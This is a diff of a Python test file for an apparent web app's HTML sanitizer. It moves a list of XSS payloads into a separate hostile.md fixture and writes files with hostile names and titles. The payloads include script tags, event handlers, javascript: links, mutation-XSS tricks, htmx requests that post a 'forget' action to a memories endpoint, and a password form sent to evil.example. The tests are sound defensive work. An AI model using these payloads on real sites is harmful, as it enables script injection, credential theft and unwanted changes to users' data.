@@ -281,39 +281,9 @@ def test_each_script_is_the_one_that_was_published_and_every_editor_of_the_setti
     assert set(EDITORS) < set(Editor.__args__)
 
 
-SCRIPTS = [
-    "<script>window.hacked = 1</script>", "<ScRiPt src=//evil.example/x.js></ScRiPt>",
-    "<scr<script>ipt>window.hacked = 1</scr</script>ipt>", "<img src=x onerror=window.hacked=1>",
-    "<svg onload=window.hacked=1><script>window.hacked=1</script></svg>",
-    "<svg><animate onbegin=window.hacked=1 attributeName=x dur=1s></svg>",
-    "<math><mtext></form><form><mglyph><style></math><img src onerror=window.hacked=1>",
-    "<details open ontoggle=window.hacked=1>x</details>",
-    "<a href='javascript:window.hacked=1' id=q autofocus>click</a>", "[click](javascript:window.hacked=1)",
-    "[click](  java\nscript:window.hacked=1)",
-    "[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGFja2VkPTE8L3NjcmlwdD4=)", "[click](vbscript:x)",
-    "![x](javascript:window.hacked=1)", "[[javascript:window.hacked=1|click]]", "<javascript:window.hacked=1>",
-    "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>",
-    "<object data='data:text/html,<script>window.hacked=1</script>'></object>", "<embed src=//evil.example/x>",
-    "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
-    "<link rel=stylesheet href=//evil.example/x.css>", "<style>body{display:none}</style>",
-    "<p style='position:fixed;inset:0;background:red'>cover</p>", "<div class='top banner'>disguise</div>",
-    "<form action=//evil.example><input name=password><button>OK</button></form>",
-    "<form action=/memories/change method=post><input name=id value=x><button autofocus>OK</button></form>",
-    "<input id=q name=q value=evil>", "<img name=body src=x><a id=main>clobber</a>",
-    "<template><script>window.hacked=1</script></template>",
-    "<noscript><p title='</noscript><img src=x onerror=window.hacked=1>'></noscript>",
-    "<textarea><img title='</textarea><img src onerror=window.hacked=1>'></textarea>",
-    "<xmp><p title='</xmp><img src onerror=window.hacked=1>'></xmp>", "<!--><img src onerror=window.hacked=1>-->",
-    "<![CDATA[<img src onerror=window.hacked=1>]]>", '```"><script>window.hacked=1</script>\ncode\n```',
-    "```html\n<script>window.hacked=1</script>\n```", "| a |\n|---|\n| <script>window.hacked=1</script> |",
-    "# <img src=x onerror=window.hacked=1>", "![x](https://evil.example/track.png)",
-    "<img src=https://evil.example/track.png srcset='https://evil.example/2.png 2x'>",
-    "<video src=//evil.example/v.mp4 autoplay></video><audio src=//evil.example/a.mp3 autoplay></audio>",
-    "<a href=//evil.example/>scheme-relative</a>", "<a href='/memories/change'>into the page</a>",
-    '<button hx-post=/memories/change hx-trigger=load hx-vals=\'{"action":"forget"}\'>x</button>',
-    "<div hx-get=/health hx-trigger=load data-open data-item data-confirm=x>x</div>",
-    "<a ping=//evil.example href=https://good.example>ping</a>", "\u202egnp.tohs\u202c",
-]  # fmt: skip
+HOSTILE = Path(__file__).with_name("hostile.md").read_text("utf-8").rstrip() + "\n\n\u202egnp.tohs\u202c"
+SCRIPTS = HOSTILE.split("\n\n")[1:]
+"""What each paragraph tries by itself."""
 
 ALLOWED = {"href", "src", "alt", "title", "width", "height", "class", "id", "rel", "start", "align"}
 ALLOWED |= {"colspan", "rowspan", "scope", "open", "name"}
@@ -421,7 +391,7 @@ def test_a_document_made_to_be_slow_is_not(text):
 @pytest.fixture
 def hostile(environment):
     """Knowledge made to harm, or large, there before a page looks for some."""
-    environment.write("knowledge/hostile.md", "# Hostile\n\n" + "\n\n".join(SCRIPTS))
+    environment.write("knowledge/hostile.md", HOSTILE)
     environment.write("knowledge/title.md", "---\ntitle: '<script>window.hacked=1</script>'\n---\nxylophone <b>x</b>\n")
     environment.write("knowledge/<img src=x onerror=hacked=1>.md", "# x\n\nxylophone\n")
     environment.write("knowledge/diagrams.md", Path(__file__).with_name("diagrams.md").read_bytes())
